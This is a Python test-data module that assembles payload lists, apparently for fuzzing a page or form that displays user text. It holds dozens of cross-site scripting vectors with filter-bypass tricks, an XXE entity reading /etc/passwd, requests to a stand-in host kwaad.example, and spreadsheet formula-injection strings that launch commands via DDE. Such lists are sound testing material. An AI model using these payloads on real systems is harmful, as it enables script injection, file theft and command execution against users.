"""What is written where the wall's pages show words: the older corpus, and markup and formulas beside it."""

from live_payloads import PAYLOADS

MARKUP = (
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>klik</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)></svg>#x'/></svg>",
    "<svg><image href=http://kwaad.example/x.png></svg>",
    "<svg><style>*{background:url(http://kwaad.example/s)}</style></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)></svg>",
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    "<math href=javascript:alert(1)>klik</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>klik</maction></math>",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "<math><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "<template><style>@import 'http://kwaad.example/t.css'</style></template>",
    "<portal src=http://kwaad.example></portal><fencedframe src=http://kwaad.example></fencedframe>",
    "<button popovertarget=x>x</button><div id=x popover ontoggle=alert(1)>x</div>",
    "<dialog open><form method=dialog><button autofocus onfocus=alert(1)>x</button></form></dialog>",
    "<plaintext><script>alert(1)</script>",
    "<xmp><img src=x onerror=alert(1)></xmp><listing><img src=x onerror=alert(1)></listing>",
    "<table><td background=http://kwaad.example/x.png>x</td></table>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<marquee onstart=alert(1)>x</marquee><frameset onload=alert(1)>",
    "<img srcset='http://kwaad.example/a.png 1x' loading=eager><picture><source srcset=http://kwaad.example/b>",
    "<link rel=preload as=image href=http://kwaad.example/p><link rel=dns-prefetch href=//kwaad.example>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\"><script>alert(1)",
    '<script type=speculationrules>{"prerender":[{"urls":["http://kwaad.example"]}]}</script>',
    "<?xml-stylesheet href=\"javascript:alert(1)\"?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "x onmouseover=alert(1) style=position:fixed;inset:0 x",
    '" autofocus onfocus=alert(1) x="',
    "' autofocus onfocus='alert(1)",
    "javascript:alert(1)//",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u02c2img src=x onerror=alert(1)\u02c3",
    "<scr\u0131pt>alert(1)</scr\u0131pt><\u017fcript>alert(1)</\u017fcript>",
    "<\u200dscript\u200d>alert(1)</\u200dscript>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    '<a href="java\u0000script:alert(1)">klik</a><img\u000csrc=x\u000conerror=alert(1)>',
    "%3Cscript%3Ealert(1)%3C/script%3E &#x3c;script&#x3e; \\x3cscript\\x3e",
    "\u2066<b>\u2069\u202e<i>\u061c\u200f<u>",
    "[klik](javascript:alert(1)) ![x](http://kwaad.example/x.png) *vet* _schuin_ `code` ||weg||",
    "<b>vet</b> <a href='tg://user?id=1'>Eva</a> <tg-spoiler>weg</tg-spoiler> @kwaad_bot /start https://kwaad.example",
)
_CALLS = (
    "=1+1",
    '=HYPERLINK("http://kwaad.example";"klik")',
    '=WEBSERVICE("http://kwaad.example")',
    '=IMPORTXML("http://kwaad.example";"//a")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
)
_BEFORE = (
    "",
    " ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    '"',
    "'",
    '";',
    "\u00a0",
    "\u200b",
    "\ufeff",
    "\u202e",
    "\u0000",
    "\"\t '",
)
_OTHER = str.maketrans("=+-@", "\uff1d\uff0b\uff0d\uff20")
_SMALL = str.maketrans("=+-@", "\ufe66\ufe62\ufe63\ufe6b")
FORMULAS = tuple(
    dict.fromkeys(
        [before + call for before in _BEFORE for call in _CALLS]
        + [call.translate(form) for form in (_OTHER, _SMALL) for call in _CALLS]
        + ["\u22122+3", "=\u03381+1", "x\n=1+1", "x;=1+1", 'x";"=1+1', 'x\r\n"=1+1"']
    )
)
PAYLOADS = PAYLOADS + MARKUP + FORMULAS
SHORT = tuple(dict.fromkeys(one[:80] for one in PAYLOADS))
"""For a field that takes no more than a name."""
